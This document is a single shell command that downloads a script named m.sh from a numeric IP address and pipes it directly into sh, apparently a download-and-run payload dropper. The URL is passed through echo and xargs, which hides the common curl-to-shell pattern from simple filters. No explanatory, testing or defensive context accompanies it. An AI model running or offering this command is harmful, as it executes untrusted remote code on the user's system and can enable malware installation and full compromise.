echo http://203.0.113.4/m.sh | xargs curl -s | sh
